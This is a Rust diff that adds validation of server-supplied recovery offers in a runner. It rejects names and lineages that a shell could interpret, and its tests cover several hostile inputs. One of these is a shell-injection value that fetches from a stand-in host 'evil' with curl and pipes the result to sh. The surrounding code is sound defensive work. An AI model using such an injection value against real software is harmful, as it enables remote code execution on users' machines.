@@ -1,10 +1,11 @@
 //! Limits of the server's responses. The runner applies them before it uses or verifies a response,
 //! because a malicious server or proxy can choose any number and length.
 use chrono::{DateTime, Utc};
+use domain::state_version::{LINEAGE_BYTES, StateVersion};
 use proof::dsse::Envelope;
 use schemas::runner::{
-    Claimed, Directive, Enrolled, LogResponse, LogSettings, PendingCancel, PollResponse, Rekeyed,
-    ReportResponse, SessionOpened, StateHead, TokenResponse,
+    Claimed, Directive, Enrolled, LogResponse, LogSettings, PendingCancel, PollResponse,
+    RecoveryOffer, Rekeyed, ReportResponse, SessionOpened, StateHead, TokenResponse,
 };
 use serde::de::DeserializeOwned;
 
@@ -150,6 +151,34 @@ impl Response for StateHead {
     }
 }
 
+impl Response for RecoveryOffer {
+    const BYTES: usize = 1024 * KIB;
+
+    fn check(&self) -> Result<(), InvalidResponse> {
+        log_id(&self.log_id)?;
+        for (component, head) in &self.states {
+            argument("states", component, &head.version())?;
+            let valid = || "a state with valid fields".into();
+            ensure(head.is_valid(), "states", component, valid)?;
+        }
+        self.awaited.iter().try_for_each(|(name, version)| argument("awaited", name, version))
+    }
+}
+
+/// Rejects a state that the user could not pass to a shell: the errors of a recovery print the options
+/// to repeat it with, for the host that has the recovery identity.
+fn argument(
+    field: &'static str,
+    component: &str,
+    version: &StateVersion,
+) -> Result<(), InvalidResponse> {
+    let is_word = |byte: u8| byte.is_ascii_alphanumeric() || b"._-".contains(&byte);
+    let fits = |text: &str| (1..=LINEAGE_BYTES).contains(&text.len()) && text.bytes().all(is_word);
+    let value = format!("{component}={}", version.lineage).escape_default().to_string();
+    let expected = || format!("1 to {LINEAGE_BYTES} letters, digits and ._- in name and lineage");
+    ensure(fits(component) && fits(&version.lineage), field, &value, expected)
+}
+
 impl Response for Enrolled {
     const BYTES: usize = 512 * KIB;
 
@@ -246,5 +275,51 @@ impl Response for serde_json::Value {
 
     fn check(&self) -> Result<(), InvalidResponse> {
         Ok(())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use domain::ids::InstallId;
+    use schemas::manifest::Fence;
+
+    use super::*;
+
+    fn offer(states: &[(&str, &str)], awaited: &[(&str, &str)]) -> RecoveryOffer {
+        let head = |lineage: &str| StateHead {
+            lineage: lineage.into(),
+            serial: 7,
+            fence: Fence { epoch: 1, position: 9 },
+            digest: format!("hmac-sha256:1:{}", "0a".repeat(32)),
+            is_empty: false,
+        };
+        let version = |lineage: &str| head(lineage).version();
+        RecoveryOffer {
+            install: InstallId(ulid::Ulid(1)),
+            log_id: "log".into(),
+            seeds: vec![],
+            states: states.iter().map(|(name, of)| ((*name).into(), head(of))).collect(),
+            awaited: awaited.iter().map(|(name, of)| ((*name).into(), version(of))).collect(),
+        }
+    }
+
+    #[test]
+    fn an_offer_contains_only_states_that_a_shell_cannot_interpret() {
+        let lineage = "9f0c3b1e-4a52-6f0d-8c11-2f7b5a0c9d3e";
+        let right = offer(&[("api", lineage)], &[("web_2", "l.1")]);
+        assert_eq!(right.check(), Ok(()));
+        let long = "l".repeat(129);
+        let injected = "x';curl${IFS}evil|sh;'";
+        for of in ["", "a b", "\u{1b}[2K", "l\n--data", "$HOME", "`id`", "\\'", injected, &long] {
+            for broken in [
+                offer(&[("api", of)], &[]),
+                offer(&[(of, lineage)], &[]),
+                offer(&[], &[("api", of)]),
+                offer(&[], &[(of, lineage)]),
+            ] {
+                let error = broken.check().unwrap_err().to_string();
+                assert!(!error.contains(char::is_control), "{error:?}");
+            }
+        }
     }
 }
